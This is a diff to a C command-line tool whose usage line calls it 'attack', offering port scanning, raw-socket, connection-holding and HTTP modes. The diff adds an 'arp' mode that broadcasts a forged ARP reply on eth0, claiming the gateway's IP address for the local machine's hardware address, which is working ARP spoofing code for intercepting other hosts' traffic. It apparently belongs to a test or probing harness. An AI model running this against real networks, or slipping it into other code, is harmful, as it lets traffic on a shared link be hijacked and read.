@@ -5,11 +5,16 @@
  */
 #include <arpa/inet.h>
 #include <errno.h>
+#include <linux/if_packet.h>
+#include <net/ethernet.h>
+#include <net/if.h>
+#include <netinet/if_ether.h>
 #include <netinet/ip_icmp.h>
 #include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
 #include <sys/socket.h>
 #include <sys/time.h>
 #include <time.h>
@@ -35,7 +40,7 @@ static int http(const char *address, const char *port)
 
     if (fd < 0)
         return say("connect", fd);
-    status = http_get(fd, "/task", false);
+    status = http_request(fd, "GET", "/task", false);
     if (status < 0)
         return say("request", status);
     printf("HTTP %d\n", status);
@@ -104,6 +109,32 @@ static int raw(const char *address)
     }
 }
 
+/* Tells everybody on the link that the gateway's address is here. */
+static int arp(const char *gateway)
+{
+    struct sockaddr_ll link = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ARP), .sll_halen = ETH_ALEN};
+    cleanup_close int fd = socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, htons(ETH_P_ARP));
+    struct ether_arp claim = {.ea_hdr = {.ar_hrd = htons(ARPHRD_ETHER),
+                                         .ar_pro = htons(ETH_P_IP),
+                                         .ar_hln = ETH_ALEN,
+                                         .ar_pln = 4,
+                                         .ar_op = htons(ARPOP_REPLY)}};
+    struct ifreq own = {.ifr_name = "eth0"};
+
+    if (fd < 0)
+        return say("socket", -errno);
+    if (ioctl(fd, SIOCGIFHWADDR, &own) < 0 || inet_pton(AF_INET, gateway, claim.arp_spa) != 1)
+        return 2;
+    memcpy(claim.arp_sha, own.ifr_hwaddr.sa_data, ETH_ALEN);
+    memcpy(claim.arp_tpa, claim.arp_spa, sizeof(claim.arp_tpa));
+    link.sll_ifindex = if_nametoindex("eth0");
+    memset(claim.arp_tha, 0xff, ETH_ALEN);
+    memset(link.sll_addr, 0xff, ETH_ALEN);
+    if (sendto(fd, &claim, sizeof(claim), 0, (struct sockaddr *)&link, sizeof(link)) < 0)
+        return say("sendto", -errno);
+    return say("sendto", 0);
+}
+
 /* Keeps one connection and uses it until it breaks. */
 static int hold(const char *address, const char *port)
 {
@@ -115,7 +146,7 @@ static int hold(const char *address, const char *port)
     if (fd < 0)
         return say("connect", fd);
     for (answered = 0;; answered++) {
-        status = http_get(fd, "/task", true);
+        status = http_request(fd, "GET", "/task", true);
         if (status < 0)
             break;
         if (answered == 0)
@@ -138,6 +169,9 @@ int main(int argc, char **argv)
         return raw(argv[2]);
     if (argc == 4 && !strcmp(verb, "hold"))
         return hold(argv[2], argv[3]);
-    fprintf(stderr, "usage: attack http ADDRESS PORT | scan ADDRESS FIRST-LAST | raw ADDRESS | hold ADDRESS PORT\n");
+    if (argc == 3 && !strcmp(verb, "arp"))
+        return arp(argv[2]);
+    fprintf(stderr, "usage: attack http ADDRESS PORT | scan ADDRESS FIRST-LAST | raw ADDRESS | hold ADDRESS PORT |"
+                    " arp GATEWAY\n");
     return 2;
 }
